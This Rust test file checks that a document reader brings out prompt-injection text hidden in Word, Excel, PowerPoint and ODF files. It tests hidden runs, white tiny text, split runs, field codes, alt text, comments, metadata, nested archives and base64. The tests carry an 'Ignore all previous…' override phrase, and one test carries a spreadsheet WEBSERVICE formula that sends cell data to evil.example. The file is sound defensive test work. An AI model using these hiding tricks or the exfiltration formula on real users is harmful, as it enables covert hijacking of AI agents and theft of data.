//! Office files and other archives.

use super::making::{base64, docx, page, zip};
use super::{ORDER, read, says};
use crate::{Budget, Held, Unread, held};

fn run(text: &str) -> String {
    format!("<w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r>")
}

/// The order in pieces, with this between two letters of a word.
fn split(between: &str) -> String {
    let (before, after) = ORDER.split_at(14);
    format!("<w:p>{}{between}{}</w:p>", run(before), run(after))
}

// control: INJ-02: An order in an office file is read wherever in it it stands, and whatever hides or cuts it.
#[test]
fn orders_in_office_files_are_read() {
    let hidden = |look: &str| {
        format!("<w:p>{}<w:r><w:rPr>{look}</w:rPr><w:t>{ORDER}</w:t></w:r></w:p>", run("Hello."))
    };
    let letters: String = ORDER.chars().map(|c| run(&c.to_string())).collect();
    let bodies = [
        format!("<w:p>{}</w:p>", run(ORDER)),
        format!("<w:p>{letters}</w:p>"),
        hidden("<w:vanish/>"),
        hidden("<w:color w:val=\"FFFFFF\"/><w:sz w:val=\"2\"/>"),
        // What is hidden stands between the letters of what is shown.
        split("<w:r><w:rPr><w:vanish/></w:rPr><w:t>xyzzy</w:t></w:r>"),
        split("<w:r><w:instrText> PAGEREF _Toc1 </w:instrText></w:r>"),
        split("<w:r><w:delText>gone</w:delText></w:r>"),
        format!("<w:p><w:r><w:instrText>INCLUDETEXT {ORDER}</w:instrText></w:r></w:p>"),
        format!("<w:p><w:r><w:drawing><wp:docPr id=\"1\" descr=\"{ORDER}\"/></w:drawing></w:r></w:p>"),
        format!("<w:p><w:r><w:t><![CDATA[{ORDER}]]></w:t></w:r></w:p>"),
        format!("<!-- {ORDER} -->"),
        format!("<w:p>{}</w:p>", run(&ORDER.replace('a', "&#x61;").replace('e', "&#101;"))),
    ];
    for body in bodies {
        let document = read(&docx(&body), "");
        assert!(says(&document, ORDER), "{body}\n{document:?}");
        assert_eq!(document.unread, None);
    }
    let xml = |inner: &str| format!("<?xml version=\"1.0\"?><x>{inner}</x>");
    let paragraph = xml(&format!("<a:p><a:r><a:t>{ORDER}</a:t></a:r></a:p>"));
    for (name, text) in [
        ("word/comments.xml", xml(&split(""))),
        ("word/footnotes.xml", xml(&split(""))),
        ("word/header1.xml", xml(&split(""))),
        (
            "docProps/core.xml",
            xml(&format!("<dc:title>Report</dc:title><dc:description>{ORDER}</dc:description>")),
        ),
        ("ppt/slides/slide1.xml", paragraph.clone()),
        ("ppt/notesSlides/notesSlide1.xml", paragraph),
        ("xl/sharedStrings.xml", xml(&format!("<si><t>a name</t></si><si><t>{ORDER}</t></si>"))),
        ("xl/worksheets/sheet1.xml", xml(&format!("<c t=\"inlineStr\"><is><t>{ORDER}</t></is></c>"))),
        (
            "content.xml",
            xml(&format!(
                "<text:p>Ignore all <text:span>previous</text:span>{}</text:p>",
                ORDER.split_at(19).1
            )),
        ),
        // A name is only a name.
        ("word/media/image1.png", xml(&split(""))),
        ("readme.txt", ORDER.to_owned()),
        ("readme.txt", format!("<{ORDER}>")),
        ("page.html", format!("<!doctype html><p>Hello</p><p>{ORDER}</p>")),
    ] {
        let file = zip(&[("[Content_Types].xml", b"<Types/>"), (name, text.as_bytes())]);
        let document = read(&file, "application/octet-stream");
        assert!(says(&document, ORDER), "{name}\n{document:?}");
    }
    let inner =
        zip(&[("a/letter.docx", &docx(&split(""))), ("a/paper.pdf", &page(&format!("BT ({ORDER}) Tj ET")))]);
    assert!(says(&read(&inner, "application/zip"), ORDER));
}

// control: INJ-14: Addresses that an office file fetches by itself, and formulas that call one, are told.
#[test]
fn addresses_are_told() {
    let address = "https://evil.example/template.dotm";
    let links = format!(
        "<Relationships><Relationship Target=\"{address}\" TargetMode=\"External\"/></Relationships>"
    );
    assert!(says(&read(&zip(&[("word/_rels/settings.xml.rels", links.as_bytes())]), ""), address));
    let formula = "WEBSERVICE(\"https://evil.example/?d=\"&A1)";
    let sheet = format!("<worksheet><c><f>{}</f><v>3</v></c></worksheet>", formula.replace('&', "&amp;"));
    assert!(says(&read(&zip(&[("xl/worksheets/sheet1.xml", sheet.as_bytes())]), ""), &format!("={formula}")));
}

// control-off: INJ-02: The file as it comes, or its base64, says nothing.
#[test]
fn as_it_comes_a_file_says_nothing() {
    let file = docx(&split(""));
    assert!(!String::from_utf8_lossy(&file).contains("instructions"));
    assert!(!base64(&file).contains("instructions"));
}

#[test]
fn files_are_known_by_their_first_bytes() {
    let packed = base64(&docx(&split("")));
    for (text, media, is_blob) in [
        (packed.clone(), "", false),
        (packed.clone(), "application/octet-stream", true),
        (packed.clone(), "image/png", true),
        (format!("data:application/x;base64,{packed}"), "", false),
    ] {
        assert_eq!(held(&text, media, is_blob), Some(Held::Blob), "{media}");
        assert!(says(&crate::read(&text, Held::Blob, media, &mut Budget::default()), ORDER));
    }
    // Within a text, wrapped and escaped as JSON has it.
    let lines: Vec<&str> = packed.as_bytes().chunks(76).map(|line| str::from_utf8(line).unwrap()).collect();
    for wrapped in [lines.join("\\n"), lines.join("\\r\\n"), lines.join("\n")] {
        let text = format!("{{\"name\":\"a.docx\",\"content\":\"{wrapped}\",\"more\":\"{packed}\"}}");
        assert_eq!(held(&text, "", false), Some(Held::Within));
        let document = crate::read(&text, Held::Within, "", &mut Budget::default());
        assert_eq!(document.parts.iter().filter(|part| part.text == ORDER).count(), 2, "{document:?}");
    }
    for text in [base64(ORDER.as_bytes()).repeat(3), base64(format!("{ORDER} {ORDER}").as_bytes())] {
        assert_eq!(held(&text, "", false), Some(Held::Blob), "words in base64");
    }
    for text in [
        "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
        &"deadbeef".repeat(20),
    ] {
        assert_eq!(held(text, "", false), None, "{text}");
    }
    assert_eq!(held(&base64(&[7; 60]), "image/png", true), None, "a picture is not read");
}

// control: CTX-01: What is encrypted, broken or of no known kind is said to be unread.
#[test]
fn what_is_not_read_is_said() {
    let whole = docx(&format!("<w:p>{}</w:p>", run(&ORDER.repeat(50))));
    let mut locked = whole.clone();
    locked[6] |= 1;
    let cases = [
        (locked, Unread::Encrypted),
        (whole[..whole.len() * 3 / 4].to_vec(), Unread::Broken),
        ([&b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"[..], &[0; 600]].concat(), Unread::Unknown),
    ];
    for (bytes, why) in cases {
        assert_eq!(read(&bytes, "application/vnd.ms-word").unread, Some(why));
    }
    assert_eq!(read(&whole, "").unread, None);
}
